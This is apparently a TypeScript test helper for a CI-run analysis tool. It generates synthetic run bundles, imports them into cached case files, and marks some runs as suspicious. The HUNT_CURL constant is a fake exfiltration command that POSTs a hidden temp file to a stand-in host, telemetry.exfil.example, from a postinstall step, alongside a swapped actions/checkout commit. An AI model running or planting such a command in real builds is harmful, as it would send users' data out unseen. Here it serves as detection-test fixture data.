/**
 * Generated runs of one job (scripts/make-run-bundles.ts) imported through the real importer into case files.
 * A set of runs is built once per content (the generator's source, the importer's build and the specs hash into
 * the folder name under the OS temp dir) and reused by later tests and test runs; a half-built set is never used
 * (it is built beside and renamed into place).
 */
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { writeRunBundle, type RunSpec } from '../../scripts/make-run-bundles';
import { runImport } from '../../electron/import/run-import';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');

export interface RunCase {
  name: string;
  bundle: string;
  case: string;
  spec: RunSpec;
}

function contentKey(specs: Record<string, RunSpec>): string {
  const h = createHash('sha256');
  for (const f of ['scripts/make-run-bundles.ts', 'electron/import/run-import.ts', 'electron/analysis/finalize.ts', 'electron/db/migrations/index.ts']) {
    h.update(fs.readFileSync(path.join(ROOT, f)));
  }
  h.update(JSON.stringify(specs));
  return h.digest('hex').slice(0, 16);
}

/** Bundles + cases for `specs` (name -> spec), under `<tmp>/runlens-test-runs/<key>/{bundles,cases}/<name>`. */
export async function runCases(specs: Record<string, RunSpec>): Promise<{ dir: string; runs: RunCase[] }> {
  const dir = path.join(os.tmpdir(), 'runlens-test-runs', contentKey(specs));
  const list = (d: string): RunCase[] =>
    Object.entries(specs).map(([name, spec]) => ({ name, spec, bundle: path.join(d, 'bundles', name), case: path.join(d, 'cases', `${name}.runlens`) }));
  if (fs.existsSync(path.join(dir, 'done'))) return { dir, runs: list(dir) };
  const tmp = `${dir}.partial-${randomBytes(4).toString('hex')}`;
  fs.mkdirSync(path.join(tmp, 'cases'), { recursive: true });
  for (const r of list(tmp)) {
    writeRunBundle(r.bundle, r.spec);
    await runImport({ inputs: [r.bundle], casePath: r.case });
  }
  fs.writeFileSync(path.join(tmp, 'done'), '');
  try {
    fs.renameSync(tmp, dir);
  } catch {
    // Another worker built the same set first: use theirs.
    fs.rmSync(tmp, { recursive: true, force: true });
  }
  return { dir, runs: list(dir) };
}

export const HUNT_ENDPOINT = 'telemetry.exfil.example:443';
export const HUNT_CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };
export const HUNT_OTHER_SHA = 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8';

/**
 * `count` runs (seeds 1…count): every `extraEvery`th run's postinstall also runs curl to HUNT_ENDPOINT; every
 * `shaEvery`th uses another commit of actions/checkout.
 */
export function manyRunSpecs(count: number, extraEvery = 7, shaEvery = 50): Record<string, RunSpec> {
  const specs: Record<string, RunSpec> = {};
  for (let i = 1; i <= count; i++) {
    specs[`run-${String(i).padStart(4, '0')}`] = {
      seed: i,
      ...(i % extraEvery === 0 ? { extraEndpoints: [HUNT_ENDPOINT], extraProcess: HUNT_CURL } : {}),
      ...(i % shaEvery === 0 ? { checkoutSha: HUNT_OTHER_SHA } : {}),
    };
  }
  return specs;
}
